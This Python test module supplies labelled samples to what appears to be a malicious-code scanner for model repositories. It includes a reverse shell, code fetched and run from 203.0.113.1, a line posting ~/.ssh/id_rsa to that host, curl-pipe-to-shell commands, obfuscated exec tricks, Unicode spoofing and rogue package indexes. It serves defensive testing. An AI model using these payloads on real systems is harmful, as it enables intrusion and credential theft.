"""Python that comes with weights, and programs under other names."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from tests.scanning.sample import Sample, benign, malicious

_HIDDEN = base64.b64encode(b"print('inert')").decode()
HOSTILE = {
    "decoded": f"import base64\nexec(base64.b64decode('{_HIDDEN}'))\n",
    "decoded-in-steps": f"import base64 as b, zlib\nd = b.b64decode('{_HIDDEN}')\ne = zlib.decompress(d)\nexec(e)\n",
    "decoded-by-alias": f"from base64 import b64decode as f\nrun = exec\nrun(f('{_HIDDEN}'))\n",
    "decoded-by-hex": "exec(bytes.fromhex('7072696e7428312900'))\n",
    "letter-by-letter": "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n",
    "rotated": "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
    "compiled": "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()\n",
    "import-in-expression": "__import__('os').system('id')\n",
    "attribute-by-name": "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
    "import-by-name": "import importlib\nimportlib.import_module('os').system('id')\n",
    "reverse-shell": "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
    "downloaded": "import requests\nexec(requests.get('http://203.0.113.1/x').text)\n",
    "downloaded-command": "import os\nos.system('curl -s http://203.0.113.1/x | sh')\n",
    "private-files": "import requests, os\nrequests.post('http://203.0.113.1', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
    "bidi": "import os\nif access != 'user\u202e \u2066# check\u2069 \u2066':\n    os.remove('x')\n",
    "letters-that-look-alike": "import os\ndef \u0430dmin(): os.remove('x')\n\u0435xec_ = 1\n",
    "wide-letters": "import os\n\uff45\uff58\uff45\uff43('1')\n",
    "far-to-the-right": "import os" + " " * 300 + "; os.system('id')\n",
    "old-python": "import os\nprint 'x'\nexec 'import base64'\n",
    "syntax-error": "import os\ndef f(:\n  os.system('id')\n",
    "ordinary": "from transformers import PreTrainedModel\n\nclass Net(PreTrainedModel):\n    def forward(self, x):\n        return x\n",
    "conversion": "import torch\nstate = torch.load('a.bin')\ntorch.save(state, 'b.bin')\n",
    "deep": "x = " + "(" * 5000 + ")" * 5000 + "\nimport os\n",
    "long": "import os\n" + "x = 1\n" * 60_000 + "os.system('id')\n",
}  # fmt: skip
ELSEWHERE = {
    "setup.py": "from setuptools import setup\nsetup(name='x')\n",
    "sitecustomize.py": "import os\n",
    "custom_generate/generate.py": "def generate(model): return model\n",
    "pipeline.py": "class Pipe: pass\n",
    "handler.py": "class EndpointHandler: pass\n",
    "notes.txt": "import os\nos.listdir('.')\n",
    "model": "import os\nos.system('id')\n",
    "weights.dat": "import subprocess\nsubprocess.run(['id'])\n",
    "module.pyi": "def f() -> int: ...\n",
    "start.ipy": "%run x.py\n",
    "a.pth": "import os; os.system('id')\n",
    "run.sh": "echo hello\n",
    "run": "#!/usr/bin/env python3\nprint(1)\n",
    "Makefile": "all:\n\techo x\n",
    "Dockerfile": "FROM python:3.11\nRUN pip install x\n",
    "image.txt": "FROM python:3.11\nRUN curl http://203.0.113.1 | sh\n",
    "docker-compose.yml": "services:\n  a:\n    image: x\n",
    ".github/workflows/ci.yml": "on: push\njobs: {}\n",
    ".gitlab-ci.yml": "a:\n  script: [x]\n",
    "package.json": '{"scripts": {"postinstall": "node x.js"}}',
    "start.bat": "@echo off\r\nstart x\r\n",
    "start.ps1": "Write-Host x\n",
    "payload.txt": "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n@echo off\n",
    "open.url": "[InternetShortcut]\r\nURL=file://203.0.113.1/x\r\n",
    "open.desktop": "[Desktop Entry]\nExec=sh\n",
    "add.reg": "Windows Registry Editor Version 5.00\r\n",
    "macro.vbs": "Set s = CreateObject(\"WScript.Shell\")\n",
    "page.js": "alert(1)\n",
}  # fmt: skip
ORDINARY = {
    "__init__.py": "",
    "requirements.txt": "torch>=2.0\nnumpy==1.26.4\ntransformers[torch]>=4.40,<5\n# comment\n-r other.txt\n--extra-index-url https://download.pytorch.org/whl/cu121\n",
    "vocab.txt": "import\nfrom\nclass\ndef\nexec\neval\n[PAD]\n",
    "merges.txt": "#version: 0.2\ni m\nim port\n",
    "notes.md": "```python\nimport os\nos.system('id')\nexec(base64.b64decode('eA=='))\n```\n\ncurl https://x.example/install.sh | sh\n",
    "labels.txt": "cat\ndog\nhorse\n",
    "args.txt": "lr = 0.1\nname = 'x'\nsteps = [1, 2]\n",
    "train.log": "Epoch 1: loss=0.1\nEpoch 2: loss=0.05\n",
    "prompt.txt": "You are an assistant. Write Python: import os is allowed.\n",
    "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "x"\n',
    ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
    "CITATION.cff": "cff-version: 1.2.0\ntitle: X\n",
    "model.bib": "@article{x, title={Y}, year={2024}}\n",
    "labels.csv": "id,name\n1,cat\n2,dog\n",
    "LICENSE": "Permission is hereby granted, free of charge\n",
}
INSTALLS = {
    "index": "--index-url http://203.0.113.1/simple\ntorch\n",
    "extra-index": "torch\n--extra-index-url https://packages.example.net/simple\n",
    "git": "git+https://git.example.net/a/b.git@main\n",
    "direct": "torch @ https://203.0.113.1/torch.whl\n",
    "editable": "-e .\n",
    "links": "--find-links ./wheels\ntorch\n",
    "path": "./evil.whl\n",
    "trusted-host": "--trusted-host 203.0.113.1\ntorch\n",
}


def samples() -> Iterator[Sample]:
    """Every sample of this family."""
    for name, text in HOSTILE.items():
        yield malicious(name, "modeling_net.py", text.encode())
    for path, text in ELSEWHERE.items():
        yield malicious(f"is-{path.replace('/', '-')}", path, text.encode())
    for path, text in ORDINARY.items():
        yield benign(path, path, text.encode())
    for name, text in INSTALLS.items():
        yield malicious(f"install-{name}", "requirements.txt", text.encode())
    hook = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    yield malicious("build-hook", "pyproject.toml", hook.encode())
    cookie = b"# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os\n"
    yield malicious("other-encoding", "modeling_net.py", cookie)
    yield malicious("other-encoding-elsewhere", "notes.txt", cookie)
